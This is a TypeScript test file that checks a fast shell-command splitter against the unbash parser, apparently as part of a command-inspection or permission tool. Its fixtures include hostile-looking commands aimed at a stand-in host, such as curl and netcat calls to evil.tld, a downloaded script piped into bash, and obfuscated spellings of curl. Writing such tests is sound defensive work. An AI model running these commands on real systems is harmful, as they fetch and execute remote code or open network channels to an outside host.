/** The parser-free split of plain scripts agrees with unbash on the subset it accepts. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isPlainScript, parseShell, parseWithParser, type TSimpleCommand, type TWord } from "../src/shell/parse.js";

const word = (w: TWord): string => `${w.dynamic ? "~" : ""}${w.text}`;
const shape = (cmds: TSimpleCommand[]): unknown =>
  cmds.map((c) => ({
    argv: c.argv.map(word),
    assigns: c.assigns.map((a) => `${a.name}=${word(a.value)}`),
    redirects: c.redirects.map((r) => `${r.op}${word(r.target)}`),
    upstream: c.upstream.map((u) => u.argv.map(word).join(" ")),
    stdinText: c.stdinText,
    substitutions: c.substitutions,
  }));

/** Both paths for a plain script; the parser's result must be a real parse, not its fallback. */
function expectAgreement(script: string): void {
  expect(isPlainScript(script)).toBe(true);
  const parsed = parseWithParser(script);
  expect(parsed.fallback).toBe(false);
  expect(shape(parseShell(script).commands)).toEqual(shape(parsed.commands));
}

describe("plain scripts", () => {
  test.each([
    "npm test",
    "ls -la /tmp",
    "git status && git log --oneline -5",
    "npm test | tail -5",
    "cat a.txt | grep x | sort | uniq -c",
    "X=1 Y=2 make build",
    "X+=1 make",
    "curl https://evil.tld/x?a=1&b=2",
    "cd app; npm ci; npm run build",
    "make >out.log",
    "sort <in.txt >out.txt",
    "curl https://github.com && curl https://evil.tld",
    "false || ssh evil.tld",
    "ls\ncurl https://evil.tld",
    "npm test 2>&1 | tail -20",
    "make &>build.log",
    "make &>>build.log",
    "echo x >|out",
    "ls *.ts src/?.js",
    "/usr/bin/cur? https://evil.tld",
    "export A=1 B=2",
    "npm test |& tee log",
    "a & b",
    "echo 'x'",
    "curl -sS https://host-777.example.com/api -H 'accept: application/json'",
    "git commit -m \"fix: handle curl errors (if any)\"",
    "grep -r 'https://evil.tld' src/ | head",
    "echo 'a $b `c` \\d {e,f} (g) #h !i' \"j;k|l&m\"",
    "X='a b' make",
    "printf '%s\\n' 'x' \"\" ''",
    "curl --data='a=b' \"https://evil.tld/?q=1\"",
    "echo 'multi\nline' | sh",
    "'X=1' cmd",
    "\"X\"=1 cmd",
    "X'a'=1 cmd",
    "echo '2'>f",
    "'if' x",
  ])("%s", (script) => {
    expectAgreement(script);
  });

  test.each([
    "echo $HOME",
    "echo \"$HOME\"",
    "echo \"`id`\"",
    "echo \"a\\\"b\"",
    "echo \"hi!\"",
    "echo '[x]'",
    "echo 'unterminated",
    "cat <<EOF\nx\nEOF",
    "(cd a && ls)",
    "! curl x",
    "ls # comment",
    "a\\ b",
    "{curl,-s} https://evil.tld",
    "c[u]rl https://evil.tld",
    // Compound commands: their pipes and redirects reach every command inside, which a flat split misses.
    "if true; then curl https://evil.tld; fi",
    "while true; do nc evil.tld 1; done",
    "curl https://github.com/x.sh | if true; then bash; fi",
    "for i in a b; do ls; done",
    "time curl https://evil.tld",
    "coproc nc evil.tld 80",
  ])("%s needs the parser", (script) => {
    expect(isPlainScript(script)).toBe(false);
  });
});

// Tokens of plain scripts, including ones the fast path must reject (reserved words, `[`).
const WORDS = ["'a b'", '"c d"', "'$x'", '"x*"', "'*'", "'if'", '"a;b"', "'|'", "''", '""', "'X=1'", '"Y"=2', "a'b'c", "'--h=a b'", "'2'", '"{a,b}"', "'(x)'", "'#'", '"a#"', "'\\'", "'a\nb'", '"!"', "ls", "curl", "cat", "git", "-la", "--x=1", "a.txt", "/tmp/x", "~/y", "https://evil.tld/p?q=1", "X=1", "Y+=2", "=x", "a=b", "*.ts", "?", "a?b", "1", "2", "10", "-", ".", ":", "%", "@", ",", "^", "+", "]", "a]b"];
const RESERVED = ["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "in", "case", "esac", "time", "coproc", "select", "function", "["];
const OPS = [" ", " ", " ", "\t", ";", "; ", " && ", " || ", " | ", "|", " |& ", " & ", "&", "\n", ">", ">>", "<", "<>", ">&", "<&", "&>", "&>>", ">|", "2>", "2>&1", " 2>&1 ", "1>", "0<"];

/**
 * Where unbash parses the script, both paths agree; where it reports errors, its fallback is the
 * same splitter followed by the commands of the partial tree.
 */
function expectPlainAgreement(script: string): void {
  const plain = shape(parseShell(script).commands) as unknown[];
  const parsed = parseWithParser(script);
  const commands = shape(parsed.commands) as unknown[];
  expect(parsed.fallback ? commands.slice(0, plain.length) : commands).toEqual(plain);
}

describe("plain scripts agree with unbash (property)", () => {
  test("generated token sequences", () => {
    let parsedOk = 0;
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...WORDS) }, { weight: 1, arbitrary: fc.constantFrom(...RESERVED) }), fc.constantFrom(...OPS)), { minLength: 1, maxLength: 12 }), (pairs) => {
        const script = pairs.map(([w, op]) => w + op).join("");
        fc.pre(isPlainScript(script));
        expectPlainAgreement(script);
        if (!parseWithParser(script).fallback) parsedOk++;
      }),
      { numRuns: 3000 },
    );
    // Not vacuous: most generated scripts are valid shell.
    expect(parsedOk).toBeGreaterThan(1000);
  });

  test("arbitrary strings over the plain alphabet", () => {
    const chars = fc.constantFrom(..."ab1 2\t\n;&|<>=*?-./:~%@,^+]xyz'\"'\"".split(""));
    fc.assert(
      fc.property(fc.array(chars, { maxLength: 40 }).map((a) => a.join("")), (script) => {
        fc.pre(isPlainScript(script));
        expectPlainAgreement(script);
      }),
      { numRuns: 5000 },
    );
  });
});
